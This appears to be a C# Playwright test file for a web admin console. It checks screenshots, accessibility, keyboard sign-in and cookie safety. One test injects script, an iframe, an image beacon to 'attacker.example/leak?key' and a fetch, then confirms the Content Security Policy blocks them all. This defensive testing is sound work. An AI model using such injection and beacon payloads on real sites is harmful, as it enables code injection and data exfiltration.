using MediaAspire.Tests.Harness;
using Microsoft.Playwright;

namespace MediaAspire.Tests.Console;

/// <summary>The console in a real browser, against the real graph.</summary>
[Collection(GraphGroup.Name)]
public sealed class ConsolePageTests(GraphFixture graph, ConsoleBrowser browser)
{
    private static readonly string[] s_refusing = ["script-src", "frame-src", "img-src", "connect-src"];

    private const int Wide = 1440;
    private const int Narrow = 360;

    public static TheoryData<string> Screens => [.. ConsoleScreens.All.Select(screen => screen.Name)];

    private Uri Address => graph.Admin.BaseAddress!;

    private string Key => graph.Admin.KeyOf();

    [Theory]
    [MemberData(nameof(Screens))]
    public async Task A_page_looks_as_approved_in_both_sizes_and_schemes_and_is_accessible(string name)
    {
        var screen = ConsoleScreens.Of(name);
        await using var own = screen.IsSignedIn ? null : await browser.OpenAsync(Address, key: null);
        var view = own ?? await browser.OpenSharedAsync(Address, Key);
        await view.SetAsync(Wide, ColorScheme.Light);
        await view.ShowAsync(screen);

        foreach (var (width, scheme) in new[]
        {
            (Wide, ColorScheme.Light), (Wide, ColorScheme.Dark), (Narrow, ColorScheme.Dark), (Narrow, ColorScheme.Light),
        })
        {
            var shot = $"{name}-{width}-{scheme.ToString().ToLowerInvariant()}";
            await view.SetAsync(width, scheme);
            await view.AssertFitsAsync(shot);
            await Screenshots.AssertMatchesAsync(browser, shot, await view.ScreenshotAsync(screen));

            // Contrast depends on the scheme, and what is shown on the width.
            if ((width, scheme) is (Wide, ColorScheme.Light) or (Narrow, ColorScheme.Dark))
            {
                await view.AssertAccessibleAsync(shot);
            }
        }

        view.AssertNoProblems();
    }

    [Fact]
    public async Task A_person_signs_in_and_out_with_the_keyboard_only()
    {
        await using var view = await browser.OpenAsync(Address, key: null);
        var page = view.Page;
        await view.ShowAsync(ConsoleScreens.Of("sign-in"));

        await page.Keyboard.TypeAsync(Key[..^1] + (Key[^1] == 'x' ? 'y' : 'x'));
        await page.Keyboard.PressAsync("Enter");
        await page.GetByRole(AriaRole.Alert).WaitForAsync();
        Assert.DoesNotContain(Key[..^1], await page.ContentAsync(), StringComparison.Ordinal);

        await page.GetByLabel("API key").FocusAsync();
        await page.Keyboard.PressAsync("Control+A");
        await page.Keyboard.TypeAsync(Key);
        await page.Keyboard.PressAsync("Enter");
        await page.GetByRole(AriaRole.Navigation).First.WaitForAsync();
        Assert.DoesNotContain(await page.Context.CookiesAsync(), cookie => !cookie.HttpOnly);
        Assert.False(await page.EvaluateAsync<bool>(
            "() => document.cookie !== '' || [...Object.values(localStorage), ...Object.values(sessionStorage)].join().includes('ma_')"));
        view.AssertNoProblems();
    }

    [Fact]
    public async Task The_policy_stops_injected_code_and_the_harness_notices()
    {
        await using var view = await browser.OpenAsync(Address, key: null);
        await view.ShowAsync(ConsoleScreens.Of("sign-in"));
        view.AssertNoProblems();

        var ran = await view.Page.EvaluateAsync<bool>(
            """
            async () => {
              const script = document.createElement('script');
              script.textContent = 'window.injected = true';
              document.body.append(script);
              const frame = document.createElement('iframe');
              frame.src = 'https://attacker.example/';
              document.body.append(frame);
              const image = new Image();
              image.src = 'https://attacker.example/leak?key';
              await fetch('https://attacker.example/').catch(() => undefined);
              return window.injected === true;
            }
            """);

        Assert.False(ran);
        await Until.TrueAsync("the harness has noticed all", () => Task.FromResult(
            s_refusing.All(directive =>
                view.Problems.Any(problem => problem.Contains(directive, StringComparison.Ordinal)))));
    }

    [Fact]
    public async Task The_comparison_of_screenshots_sees_another_scheme_and_a_missing_button()
    {
        await using var view = await browser.OpenAsync(Address, key: null);
        var screen = ConsoleScreens.Of("sign-in");
        await view.ShowAsync(screen);
        await view.SetAsync(Narrow, ColorScheme.Light);
        var light = await view.ScreenshotAsync(screen);
        await view.Page.EvaluateAsync("() => document.querySelector('button[type=submit]').remove()");
        var without = await view.ScreenshotAsync(screen);
        await view.SetAsync(Narrow, ColorScheme.Dark);
        var dark = await view.ScreenshotAsync(screen);

        Assert.Equal(0, await browser.CompareAsync(light, light));
        Assert.InRange(await browser.CompareAsync(light, without), 0.01, 1);
        Assert.InRange(await browser.CompareAsync(light, dark), 0.3, 1);
    }
}
